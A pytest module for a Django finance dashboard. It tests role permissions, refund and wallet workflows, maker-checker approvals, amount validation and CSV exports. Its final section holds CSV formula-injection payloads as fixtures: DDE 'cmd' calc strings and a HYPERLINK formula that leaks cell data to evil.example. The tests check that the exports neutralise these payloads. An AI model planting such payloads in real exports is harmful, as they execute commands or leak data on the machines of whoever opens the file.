"""Finance pages: the refund queue and its decisions, wallets and their ledgers,
streamed CSV exports; every URL for every role, plain and htmx."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from django.urls import reverse

from orders.dashboard.exports import ORDER_COLUMNS
from orders.enums import OrderStatus, RefundStatus, WalletEntryKind
from orders.models import AuditEvent, Order, RefundReview, Wallet, WalletCreditRequest, WalletEntry
from orders.services.actors import Actor
from orders.services.wallets import wallet_debit, wallet_top_up
from tests.factories import (
    ClientFactory,
    OrderFactory,
    UserFactory,
    WalletFactory,
    refundable_order,
)
from tests.helpers.dashboard import CARD_NUMBER, PIN, REFERENCE, client_for

pytestmark = pytest.mark.django_db

OK, REDIRECT, BAD, FORBIDDEN = 200, 302, 400, 403
ROLES = ["support", "finance", "inventory", "admin"]

# (name, method, expected status per role in ROLES order)
MATRIX = [
    ("refund_queue", "get", [FORBIDDEN, OK, FORBIDDEN, OK]),
    ("refund_decide", "post", [FORBIDDEN, REDIRECT, FORBIDDEN, REDIRECT]),
    ("wallet_list", "get", [FORBIDDEN, OK, FORBIDDEN, OK]),
    ("wallet_detail", "get", [FORBIDDEN, OK, FORBIDDEN, OK]),
    # An empty money form is re-rendered with its errors (400), never redirected away.
    ("wallet_top_up", "post", [FORBIDDEN, BAD, FORBIDDEN, BAD]),
    # Adjustments are for superusers only: no role holds orders.change_wallet.
    ("wallet_adjust", "post", [FORBIDDEN, FORBIDDEN, FORBIDDEN, BAD]),
    ("credit_queue", "get", [FORBIDDEN, OK, FORBIDDEN, OK]),
    ("credit_decide", "post", [FORBIDDEN, REDIRECT, FORBIDDEN, REDIRECT]),
    ("export_orders", "get", [FORBIDDEN, OK, FORBIDDEN, OK]),
    ("export_refunds", "get", [FORBIDDEN, OK, FORBIDDEN, OK]),
    ("export_ledger", "get", [FORBIDDEN, OK, FORBIDDEN, OK]),
]
WALLET_VIEWS = {"wallet_detail", "wallet_top_up", "wallet_adjust", "export_ledger"}


@pytest.fixture
def wallet():
    wallet = WalletFactory(currency="USD")
    wallet_top_up(wallet_id=wallet.pk, amount="100.00", actor=Actor.system("test"), note="Opening")
    return wallet


def _url(name: str, wallet: Wallet) -> str:
    if name == "credit_decide":
        credit = WalletCreditRequest.objects.create(
            wallet=wallet,
            kind="TOP_UP",
            amount=Decimal("5000.00"),
            reason="matrix",
            requested_by=UserFactory(username="credit-maker"),
        )
        return reverse("dashboard:credit_decide", args=[credit.pk])
    if name in WALLET_VIEWS:
        return reverse(f"dashboard:{name}", args=[wallet.pk])
    return reverse(f"dashboard:{name}")


@pytest.mark.parametrize(("name", "method", "expected"), MATRIX)
@pytest.mark.parametrize("htmx", [False, True])
def test_every_finance_url_for_every_role(as_role, wallet, name, method, expected, htmx):
    url = _url(name, wallet)
    headers = {"HTTP_HX_REQUEST": "true"} if htmx else {}
    for role, status in zip(ROLES, expected, strict=True):
        response = getattr(as_role(role), method)(url, **headers)
        if htmx and status == REDIRECT:
            status = OK  # htmx posts get the re-rendered fragment instead of a redirect
        assert response.status_code == status, (role, name, htmx)

    anonymous = getattr(as_role(None), method)(url, **headers)
    if htmx:
        assert anonymous.status_code == 204 and "/accounts/login/" in anonymous["HX-Redirect"]
    else:
        assert anonymous.status_code == REDIRECT
        assert anonymous["Location"].startswith(reverse("login"))


def test_navigation_shows_refunds_and_wallets_to_finance_only(as_role):
    finance = as_role("finance").get(reverse("dashboard:overview")).content.decode()
    support = as_role("support").get(reverse("dashboard:overview")).content.decode()
    assert reverse("dashboard:refund_queue") in finance and ">Wallets<" in finance
    assert reverse("dashboard:refund_queue") not in support and ">Wallets<" not in support


# --- Refund queue -----------------------------------------------------------------


def test_refund_queue_page_and_htmx_fragment(as_role):
    usd = refundable_order(amount="600.00")
    eur = refundable_order(amount="50.00", currency="EUR")
    client = as_role("finance")

    page = client.get(reverse("dashboard:refund_queue"))
    html = page.content.decode()
    assert page.status_code == 200 and "<html" in html
    assert f'value="{usd.pk}"' in html and f'value="{eur.pk}"' in html
    assert "600.00 USD" in html and "50.00 EUR" in html  # totals per currency
    assert reverse("dashboard:export_refunds") in html

    fragment = client.get(
        reverse("dashboard:refund_queue"), {"currency": "EUR"}, HTTP_HX_REQUEST="true"
    )
    body = fragment.content.decode()
    assert fragment.status_code == 200 and "<html" not in body
    assert body.lstrip().startswith('<section id="refund-results"')
    assert f'value="{eur.pk}"' in body and f'value="{usd.pk}"' not in body


def test_refund_queue_rejects_a_bad_filter_with_400(as_role):
    response = as_role("finance").get(
        reverse("dashboard:refund_queue"), {"amount_min": "10", "amount_max": "5"}
    )
    assert response.status_code == 400
    assert "must not be below" in response.content.decode()


def test_decide_without_htmx_redirects_back_with_per_order_messages(as_role, users):
    small = refundable_order(amount="25.00")
    large = refundable_order(amount="600.00")
    client = as_role("finance")

    response = client.post(
        reverse("dashboard:refund_decide"),
        {"order": [small.pk, large.pk], "decision": "APPROVE", "note": "", "return_query": "a=1"},
    )
    assert response.status_code == 302
    assert response["Location"] == reverse("dashboard:refund_queue") + "?a=1"
    html = client.get(response["Location"]).content.decode()
    assert f"Order {small.pk}: refunded 25.00 USD" in html
    assert f"Order {large.pk}: waiting for a second approver" in html

    again = client.post(
        reverse("dashboard:refund_decide"),
        {"order": [large.pk], "decision": "APPROVE", "note": ""},
        follow=True,
    )
    assert f"Order {large.pk}: you already approved" in again.content.decode()
    large.refresh_from_db()
    assert large.refund_status == RefundStatus.NOT_REFUNDED

    admin = as_role("admin").post(
        reverse("dashboard:refund_decide"),
        {"order": [large.pk], "decision": "APPROVE", "note": "second"},
        follow=True,
    )
    assert f"Order {large.pk}: refunded 600.00 USD" in admin.content.decode()
    large.refresh_from_db()
    assert large.refund_status == RefundStatus.REFUNDED


def test_decide_with_htmx_rerenders_the_table_with_messages(as_role):
    order = refundable_order(amount="25.00")
    held = refundable_order(amount="30.00")
    response = as_role("finance").post(
        reverse("dashboard:refund_decide"),
        {"order": [held.pk], "decision": "HOLD", "note": "waiting on the vendor"},
        HTTP_HX_REQUEST="true",
    )
    body = response.content.decode()
    assert response.status_code == 200 and "<html" not in body
    assert response["HX-Trigger"] == "refundsChanged"
    assert f"Order {held.pk}: refund held" in body
    # A held order leaves the default queue; the others stay.
    assert f'value="{held.pk}"' not in body and f'value="{order.pk}"' in body
    shown = as_role("finance").get(reverse("dashboard:refund_queue"), {"include_stopped": "on"})
    assert f'value="{held.pk}"' in shown.content.decode()
    assert "Hold by finance-user" in shown.content.decode()


def test_hold_without_a_note_is_refused_and_records_nothing(as_role):
    order = refundable_order()
    response = as_role("finance").post(
        reverse("dashboard:refund_decide"),
        {"order": [order.pk], "decision": "REJECT", "note": ""},
        follow=True,
    )
    assert "A hold or reject needs a note saying why." in response.content.decode()
    assert not RefundReview.objects.filter(order=order).exists()


def test_bulk_with_one_bad_order_reports_each(as_role):
    good = refundable_order(amount="25.00")
    done = refundable_order(amount="25.00")
    Order.objects.filter(pk=done.pk).update(refund_status=RefundStatus.REFUNDED)
    response = as_role("finance").post(
        reverse("dashboard:refund_decide"),
        {"order": [done.pk, good.pk], "decision": "APPROVE"},
        HTTP_HX_REQUEST="true",
    )
    body = response.content.decode()
    assert f"Order {done.pk}: no refund is waiting for a decision" in body
    assert f"Order {good.pk}: refunded 25.00 USD" in body


# --- Wallets ----------------------------------------------------------------------


def test_wallet_list_and_detail_show_balance_and_ledger(as_role, wallet):
    client = as_role("finance")
    listing = client.get(reverse("dashboard:wallet_list")).content.decode()
    assert wallet.client.name in listing and "100.00 USD" in listing

    detail = client.get(reverse("dashboard:wallet_detail", args=[wallet.pk]))
    html = detail.content.decode()
    assert detail.status_code == 200 and "<html" in html
    assert "Opening" in html and "Top-up amount" in html
    assert "Adjustment (signed)" not in html  # superuser only
    assert reverse("dashboard:export_ledger", args=[wallet.pk]) in html

    fragment = client.get(
        reverse("dashboard:wallet_detail", args=[wallet.pk]),
        {"kind": WalletEntryKind.REFUND},
        HTTP_HX_REQUEST="true",
    )
    body = fragment.content.decode()
    assert "<html" not in body and body.lstrip().startswith('<section id="ledger-results"')
    assert "No entries match these filters." in body

    bad = client.get(reverse("dashboard:wallet_detail", args=[wallet.pk]), {"kind": "GIFT"})
    assert bad.status_code == 400
    assert "Some filters could not be used" in bad.content.decode()
    assert "Kind: Select a valid choice" in bad.content.decode()


def test_ledger_pages_newest_first_by_keyset(as_role, wallet):
    actor = Actor.system("test")
    for n in range(1, 27):
        wallet_top_up(wallet_id=wallet.pk, amount=f"{n}.00", actor=actor, note=f"top-up {n}")
    client = as_role("finance")
    first = client.get(reverse("dashboard:wallet_detail", args=[wallet.pk]))
    page = first.context["page"]
    assert [e.note for e in page.entries[:2]] == ["top-up 26", "top-up 25"]
    assert page.entries[0].balance_after == Decimal("100.00") + sum(range(1, 27))
    second = client.get(
        reverse("dashboard:wallet_detail", args=[wallet.pk]), {"cursor": page.next_cursor}
    )
    assert [e.note for e in second.context["page"].entries] == ["top-up 1", "Opening"]


def test_top_up_plain_and_htmx(as_role, wallet):
    client = as_role("finance")
    url = reverse("dashboard:wallet_top_up", args=[wallet.pk])

    plain = client.post(url, {"amount": "25.50", "reason": "Wire 77"}, follow=True)
    assert "Top-up: 25.50 USD, balance now 125.50." in plain.content.decode()

    fragment = client.post(url, {"amount": "4.50", "reason": "Wire 78"}, HTTP_HX_REQUEST="true")
    body = fragment.content.decode()
    assert "<html" not in body and "balance now 130.00" in body

    refused = client.post(url, {"amount": "5.00", "reason": ""}, follow=True)
    assert "This field is required." in refused.content.decode()
    wallet.refresh_from_db()
    assert wallet.balance == Decimal("130.00")
    assert WalletEntry.objects.filter(wallet=wallet, kind=WalletEntryKind.TOP_UP).count() == 3


def test_adjust_by_admin_is_signed_and_refused_below_zero(as_role, wallet):
    client = as_role("admin")
    url = reverse("dashboard:wallet_adjust", args=[wallet.pk])
    done = client.post(url, {"amount": "-40.00", "reason": "Duplicate top-up"}, follow=True)
    assert "Adjustment: -40.00 USD, balance now 60.00." in done.content.decode()
    refused = client.post(url, {"amount": "-500.00", "reason": "Too much"}, follow=True)
    assert "Insufficient wallet balance" in refused.content.decode()
    wallet.refresh_from_db()
    assert wallet.balance == Decimal("60.00")


# --- Maker-checker on money in ---------------------------------------------------


@pytest.fixture
def _credit_limit(settings):
    settings.WALLET_CREDIT_SECOND_APPROVAL_LIMIT = Decimal("1000.00")


@pytest.mark.usefixtures("_credit_limit")
def test_one_finance_user_cannot_credit_a_million_alone(as_role, users, wallet):
    """Issue 11, finding 2: the top-up waits in the queue until a different user approves."""
    maker = as_role("finance")
    url = reverse("dashboard:wallet_top_up", args=[wallet.pk])

    response = maker.post(url, {"amount": "1000000.00", "reason": "goodwill"}, follow=True)

    html = response.content.decode()
    assert "waiting for a second approver" in html
    wallet.refresh_from_db()
    assert wallet.balance == Decimal("100.00")
    credit = WalletCreditRequest.objects.get(wallet=wallet)
    assert f'id="credit-{credit.pk}"' in html  # the wallet page lists it
    assert "1,000,000.00 USD" in html

    queue = maker.get(reverse("dashboard:credit_queue")).content.decode()
    assert f'id="credit-{credit.pk}"' in queue and wallet.client.name in queue
    assert "finance-user" in queue and "goodwill" in queue
    assert 'value="APPROVE"' not in queue  # no approve button for the maker

    own = maker.post(
        reverse("dashboard:credit_decide", args=[credit.pk]),
        {"decision": "APPROVE", "note": ""},
        follow=True,
    )
    assert "the second approval must come from a different user" in own.content.decode()
    credit.refresh_from_db()
    assert credit.status == WalletCreditRequest.Status.PENDING

    checker = client_for(UserFactory(username="finance-two", role="finance"))
    fragment = checker.post(
        reverse("dashboard:credit_decide", args=[credit.pk]),
        {"decision": "APPROVE", "note": "contract 7"},
        HTTP_HX_REQUEST="true",
    )
    body = fragment.content.decode()
    assert fragment.status_code == 200 and "<html" not in body
    assert body.lstrip().startswith('<section id="credit-results"')
    assert f"Credit request {credit.pk}: top-up of 1000000.00 USD approved" in body
    assert f'id="credit-{credit.pk}"' not in body
    assert fragment["HX-Trigger"] == "creditsChanged"
    wallet.refresh_from_db()
    assert wallet.balance == Decimal("1000100.00")
    actions = set(AuditEvent.objects.values_list("action", flat=True))
    assert {"wallet.credit_request", "wallet.credit_approve", "wallet.top_up"} <= actions


@pytest.mark.usefixtures("_credit_limit")
def test_a_small_top_up_still_moves_at_once(as_role, wallet):
    response = as_role("finance").post(
        reverse("dashboard:wallet_top_up", args=[wallet.pk]),
        {"amount": "1000.00", "reason": "Wire 9"},
        HTTP_HX_REQUEST="true",
    )
    assert "Top-up: 1000.00 USD, balance now 1100.00." in response.content.decode()
    assert not WalletCreditRequest.objects.exists()


@pytest.mark.usefixtures("_credit_limit")
def test_reject_from_the_wallet_page_needs_a_note_and_returns_there(as_role, users, wallet):
    as_role("finance").post(
        reverse("dashboard:wallet_top_up", args=[wallet.pk]),
        {"amount": "5000.00", "reason": "Wire 10"},
    )
    credit = WalletCreditRequest.objects.get()
    checker = as_role("admin")
    url = reverse("dashboard:credit_decide", args=[credit.pk])

    refused = checker.post(url, {"decision": "REJECT", "note": "", "return_to": "wallet"})
    assert refused.status_code == 302
    assert refused["Location"] == reverse("dashboard:wallet_detail", args=[wallet.pk])
    assert "A reject needs a note saying why." in checker.get(refused["Location"]).content.decode()

    done = checker.post(
        url, {"decision": "REJECT", "note": "no wire seen", "return_to": "wallet"}, follow=True
    )
    assert f"Credit request {credit.pk}: top-up of 5000.00 USD rejected." in done.content.decode()
    credit.refresh_from_db()
    assert (credit.status, credit.decision_note) == ("REJECTED", "no wire seen")
    wallet.refresh_from_db()
    assert wallet.balance == Decimal("100.00")


@pytest.mark.usefixtures("_credit_limit")
def test_a_large_adjustment_waits_for_a_second_admin(as_role, users, wallet):
    system = Actor.system("test")
    wallet_top_up(wallet_id=wallet.pk, amount="2900.00", actor=system, note="more")
    as_role("admin").post(
        reverse("dashboard:wallet_adjust", args=[wallet.pk]),
        {"amount": "-2500.00", "reason": "Reverse wire"},
    )
    credit = WalletCreditRequest.objects.get(kind="ADJUSTMENT")
    url = reverse("dashboard:credit_decide", args=[credit.pk])

    finance = as_role("finance")
    queue = finance.get(reverse("dashboard:credit_queue")).content.decode()
    assert "An admin approves adjustments" in queue
    refused = finance.post(url, {"decision": "APPROVE"}, follow=True)
    assert "only an admin decides on an adjustment" in refused.content.decode()
    credit.refresh_from_db()
    assert credit.status == WalletCreditRequest.Status.PENDING

    wallet_debit(wallet_id=wallet.pk, amount="1000.00", actor=system)
    second_admin = client_for(UserFactory(username="admin-two", role="admin"))
    poor = second_admin.post(url, {"decision": "APPROVE"}, follow=True)
    assert "Insufficient wallet balance" in poor.content.decode()
    credit.refresh_from_db()
    assert credit.status == WalletCreditRequest.Status.PENDING  # nothing half-done

    wallet_top_up(wallet_id=wallet.pk, amount="1000.00", actor=system, note="back")
    done = second_admin.post(url, {"decision": "APPROVE"}, follow=True)
    assert "adjustment of -2500.00 USD approved, balance now 500.00" in done.content.decode()
    wallet.refresh_from_db()
    assert wallet.balance == Decimal("500.00")


# --- Money range on every dashboard money field -----------------------------------

OUT_OF_RANGE = [
    "999999999999.99",  # fits the column, but not on top of the balance
    "999999999999.999",
    "1000000000000.00",
    "99999999999999999999",
    "1e400",
    "-1e400",
    "NaN",
    "Infinity",
    "-Infinity",
    "10.001",
    "abc",
]


@pytest.mark.parametrize("htmx", [False, True])
@pytest.mark.parametrize("amount", [*OUT_OF_RANGE, "-10.00", "0"])
def test_top_up_answers_a_form_error_for_any_out_of_range_amount(as_role, wallet, amount, htmx):
    headers = {"HTTP_HX_REQUEST": "true"} if htmx else {}
    response = as_role("finance").post(
        reverse("dashboard:wallet_top_up", args=[wallet.pk]),
        {"amount": amount, "reason": "range"},
        **headers,
    )

    html = response.content.decode()
    assert response.status_code == 400
    assert 'id="top-up-amount-error"' in html and 'aria-invalid="true"' in html
    assert ("<html" in html) is not htmx
    assert f'value="{amount}"' in html  # the form keeps what was typed
    wallet.refresh_from_db()
    assert wallet.balance == Decimal("100.00")
    assert WalletEntry.objects.filter(wallet=wallet).count() == 1
    assert not WalletCreditRequest.objects.exists()


@pytest.mark.parametrize("amount", [*OUT_OF_RANGE, "-999999999999.999", "0"])
def test_adjustment_answers_a_form_error_for_any_out_of_range_amount(as_role, wallet, amount):
    response = as_role("admin").post(
        reverse("dashboard:wallet_adjust", args=[wallet.pk]), {"amount": amount, "reason": "r"}
    )

    assert response.status_code == 400
    assert 'id="adjust-amount-error"' in response.content.decode()
    wallet.refresh_from_db()
    assert wallet.balance == Decimal("100.00")
    assert not WalletCreditRequest.objects.exists()


def test_a_credit_past_the_largest_balance_says_so(as_role, wallet):
    response = as_role("finance").post(
        reverse("dashboard:wallet_top_up", args=[wallet.pk]),
        {"amount": "999999999999.99", "reason": "overflow"},
    )
    assert response.status_code == 400
    assert "above the largest balance a wallet can hold" in response.content.decode()


@pytest.mark.parametrize("name", ["refund_queue", "export_refunds"])
@pytest.mark.parametrize("field", ["amount_min", "amount_max"])
@pytest.mark.parametrize("amount", ["1e400", "99999999999999999999", "NaN", "-1.00", "1.001"])
def test_refund_amount_filters_refuse_out_of_range_amounts(as_role, name, field, amount):
    response = as_role("finance").get(reverse(f"dashboard:{name}"), {field: amount})
    assert response.status_code == 400


# --- CSV exports ------------------------------------------------------------------


def _csv_rows(response) -> list[list[str]]:
    assert response.streaming
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def test_orders_export_streams_the_filtered_list_without_secrets(as_role, delivered_order):
    order, _voucher = delivered_order
    response = as_role("finance").get(
        reverse("dashboard:export_orders"), {"status": "DELIVERED", "sort": "oldest"}
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = _csv_rows(response)
    header, body = rows[0], rows[1:]
    assert header[:3] == ["id", "reference_code", "client"]
    assert not any("voucher" in column or "pin" in column for column in header)
    assert [int(r[0]) for r in body] == [order.pk]
    row = dict(zip(header, body[0], strict=True))
    assert row["amount"] == "25.00"
    assert row["placed_at"] == order.placed_at.isoformat()
    flat = "\n".join(",".join(r) for r in rows)
    for secret in (CARD_NUMBER, PIN, REFERENCE):
        assert secret not in flat

    none = as_role("finance").get(reverse("dashboard:export_orders"), {"status": "FAILED"})
    assert _csv_rows(none) == [header]


def test_refunds_export_uses_the_queue_filters(as_role):
    usd = refundable_order(amount="600.00")
    refundable_order(amount="50.00", currency="EUR")
    response = as_role("finance").get(reverse("dashboard:export_refunds"), {"currency": "USD"})
    rows = _csv_rows(response)
    assert rows[0][-3:] == ["latest_decision", "latest_reviewer", "latest_review_at"]
    assert [int(r[0]) for r in rows[1:]] == [usd.pk]
    assert dict(zip(rows[0], rows[1], strict=True))["refund_amount"] == "600.00"


def test_ledger_export_streams_entries_newest_first(as_role, wallet):
    wallet_top_up(wallet_id=wallet.pk, amount="0.10", actor=Actor.system("test"), note="Dime")
    response = as_role("finance").get(reverse("dashboard:export_ledger", args=[wallet.pk]))
    rows = _csv_rows(response)
    assert rows[0] == [
        "id",
        "created_at",
        "kind",
        "amount",
        "balance_after",
        "order_id",
        "note",
        "actor",
    ]
    assert [(r[3], r[4], r[6]) for r in rows[1:]] == [
        ("0.10", "100.10", "Dime"),
        ("100.00", "100.00", "Opening"),
    ]
    assert "ledger.csv" in response["Content-Disposition"]


def _cells_from_model(order: Order) -> list[str]:
    """An order's CSV cells spelled out from the model instance: str() of each
    value, isoformat() of each timestamp, an empty cell for None."""

    def cell(value) -> str:
        if value is None:
            return ""
        return value.isoformat() if isinstance(value, datetime) else str(value)

    return [
        cell(value)
        for value in (
            order.pk,
            order.reference_code,
            order.client.name,
            order.product_name,
            order.status,
            order.sub_status,
            order.currency,
            order.denomination,
            order.quantity,
            order.amount,
            order.wallet_currency,
            order.wallet_amount,
            order.refund_status,
            order.refund_amount,
            order.customer_email,
            order.placed_at,
            order.delivered_at,
            order.refunded_at,
        )
    ]


def test_orders_export_cells_match_the_model_values_quotes_fractions_and_blanks(as_role):
    """Quoting, whole-second and fractional timestamps, None and large money:
    every cell is what str()/isoformat() of the stored value gives."""
    client = ClientFactory(name='Orbit, "Ltd"')
    whole_second = OrderFactory(
        client=client,
        product_name='Nebula "Deluxe", 2-pack',
        placed_at=datetime(2025, 1, 31, 9, 5, tzinfo=UTC),
        denomination=Decimal("1234567.80"),
        quantity=3,
        wallet_currency="EUR",
        wallet_amount=Decimal("3400000.05"),
    )
    fractional = OrderFactory(
        client=client,
        product_name="Plain",
        status=OrderStatus.DELIVERED,
        placed_at=datetime(2025, 2, 1, 23, 59, 59, 250, tzinfo=UTC),
        delivered_at=datetime(2025, 2, 2, 0, 0, 1, 999999, tzinfo=UTC),
        refund_status=RefundStatus.REFUNDED,
        refund_amount=Decimal("0.10"),
        refunded_at=datetime(2025, 2, 3, 12, 0, tzinfo=UTC),
    )
    response = as_role("finance").get(
        reverse("dashboard:export_orders"), {"client": client.pk, "sort": "oldest"}
    )
    rows = _csv_rows(response)
    expected = [
        _cells_from_model(Order.objects.select_related("client").get(pk=order.pk))
        for order in (whole_second, fractional)
    ]
    assert rows[1:] == expected
    first, second = (dict(zip(rows[0], row, strict=True)) for row in rows[1:])
    assert first["client"] == 'Orbit, "Ltd"'
    assert first["product"] == 'Nebula "Deluxe", 2-pack'
    assert first["placed_at"] == "2025-01-31T09:05:00+00:00"
    assert first["delivered_at"] == "" and first["refunded_at"] == ""
    assert first["denomination"] == "1234567.80" and first["wallet_amount"] == "3400000.05"
    assert second["placed_at"] == "2025-02-01T23:59:59.000250+00:00"
    assert second["delivered_at"] == "2025-02-02T00:00:01.999999+00:00"
    assert second["refund_amount"] == "0.10"


def test_refunds_export_carries_the_latest_review(as_role, users):
    order = refundable_order(amount="30.00")
    as_role("finance").post(
        reverse("dashboard:refund_decide"),
        {"order": [order.pk], "decision": "HOLD", "note": "waiting on the vendor"},
    )
    review = RefundReview.objects.get(order=order)
    response = as_role("finance").get(
        reverse("dashboard:export_refunds"), {"include_stopped": "on"}
    )
    rows = _csv_rows(response)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert len(rows) == 2
    assert row["latest_decision"] == "HOLD" and row["latest_reviewer"] == "finance-user"
    assert row["latest_review_at"] == review.created_at.isoformat()
    order.refresh_from_db()
    assert rows[1][: len(ORDER_COLUMNS)] == _cells_from_model(order)


def test_ledger_export_writes_signed_amounts_and_blank_order(as_role, wallet):
    as_role("admin").post(
        reverse("dashboard:wallet_adjust", args=[wallet.pk]),
        {"amount": "-40.00", "reason": 'Duplicate, "wire 7"'},
    )
    WalletEntry.objects.filter(wallet=wallet, note="Opening").update(
        created_at=datetime(2025, 1, 1, tzinfo=UTC)
    )
    rows = _csv_rows(as_role("finance").get(reverse("dashboard:export_ledger", args=[wallet.pk])))
    adjustment, opening = (dict(zip(rows[0], row, strict=True)) for row in rows[1:])
    assert (adjustment["amount"], adjustment["balance_after"]) == ("-40.00", "60.00")
    assert adjustment["note"] == 'Duplicate, "wire 7"' and adjustment["order_id"] == ""
    entry = WalletEntry.objects.get(wallet=wallet, amount=Decimal("-40.00"))
    assert adjustment["actor"] == entry.actor_label and "admin-user" in entry.actor_label
    assert adjustment["created_at"] == entry.created_at.isoformat()
    assert opening["created_at"] == "2025-01-01T00:00:00+00:00"


def test_finance_user_model_has_the_export_permission():
    user = UserFactory(username="exporter", role="finance")
    assert user.has_perm("orders.export_orders") and not user.has_perm("orders.change_wallet")


def test_order_list_offers_the_csv_export_with_its_filters_to_finance_only(users):
    url = reverse("dashboard:order_list")
    finance_html = client_for(users["finance"]).get(url, {"status": "FAILED"}).content.decode()
    assert reverse("dashboard:export_orders") + "?status=FAILED" in finance_html
    support_html = client_for(users["support"]).get(url).content.decode()
    assert reverse("dashboard:export_orders") not in support_html


# --- CSV formula injection (OWASP) ------------------------------------------------

CALC = "=cmd|'/ccalc'!a0@example.com"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def test_orders_export_neutralises_cells_a_spreadsheet_would_run(as_role):
    """Issue 11, finding 6: a customer's e-mail reaches the orders export as text."""
    client = ClientFactory(name="@SUM(1+1)*cmd|' /C calc'!A0")
    formula = OrderFactory(
        client=client,
        reference_code="+1+cmd|'/ccalc'!A0",
        product_name="-2+3",
        customer_name=CALC,
        customer_email=CALC,
        placed_at=datetime(2025, 1, 1, tzinfo=UTC),
    )
    control = OrderFactory(
        client=client,
        reference_code="\tTAB",
        product_name="\r=CR",
        customer_email="grace@example.com",
        placed_at=datetime(2025, 1, 2, tzinfo=UTC),
    )
    plain_number = OrderFactory(
        client=client,
        reference_code="-10.00",
        product_name="+42",
        placed_at=datetime(2025, 1, 3, tzinfo=UTC),
    )

    rows = _csv_rows(
        as_role("finance").get(
            reverse("dashboard:export_orders"), {"client": client.pk, "sort": "oldest"}
        )
    )
    cells = {int(row[0]): dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    first, second, third = cells[formula.pk], cells[control.pk], cells[plain_number.pk]
    assert first["customer_email"] == "'" + CALC
    assert first["client"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert first["reference_code"] == "'+1+cmd|'/ccalc'!A0"
    assert first["product"] == "'-2+3"
    assert (second["reference_code"], second["product"]) == ("'\tTAB", "'\r=CR")
    assert second["customer_email"] == "grace@example.com"
    # Plain numbers stay numbers, in text columns and money columns alike.
    assert (third["reference_code"], third["product"]) == ("-10.00", "+42")
    assert first["amount"] == str(formula.amount) and first["quantity"] == str(formula.quantity)


def test_ledger_export_neutralises_a_formula_reason_and_keeps_signed_amounts(as_role, wallet):
    system = Actor.system("test")
    wallet_top_up(wallet_id=wallet.pk, amount="5.00", actor=system, note=HYPERLINK)
    as_role("admin").post(
        reverse("dashboard:wallet_adjust", args=[wallet.pk]),
        {"amount": "-10.00", "reason": "-10.00"},
    )

    rows = _csv_rows(as_role("finance").get(reverse("dashboard:export_ledger", args=[wallet.pk])))
    adjustment, top_up, _opening = (dict(zip(rows[0], row, strict=True)) for row in rows[1:])
    assert top_up["note"] == "'" + HYPERLINK
    assert (top_up["amount"], top_up["balance_after"]) == ("5.00", "105.00")
    assert (adjustment["amount"], adjustment["note"]) == ("-10.00", "-10.00")
    assert adjustment["balance_after"] == "95.00"


def test_refunds_export_neutralises_a_formula_reviewer_name(as_role):
    order = refundable_order(amount="30.00")
    reviewer = UserFactory(username="@evil", role="finance")
    client_for(reviewer).post(
        reverse("dashboard:refund_decide"),
        {"order": [order.pk], "decision": "HOLD", "note": "look"},
    )
    Order.objects.filter(pk=order.pk).update(customer_email=CALC)

    rows = _csv_rows(
        as_role("finance").get(reverse("dashboard:export_refunds"), {"include_stopped": "on"})
    )
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["latest_reviewer"] == "'@evil"
    assert row["customer_email"] == "'" + CALC
    assert (row["latest_decision"], row["refund_amount"]) == ("HOLD", "30.00")
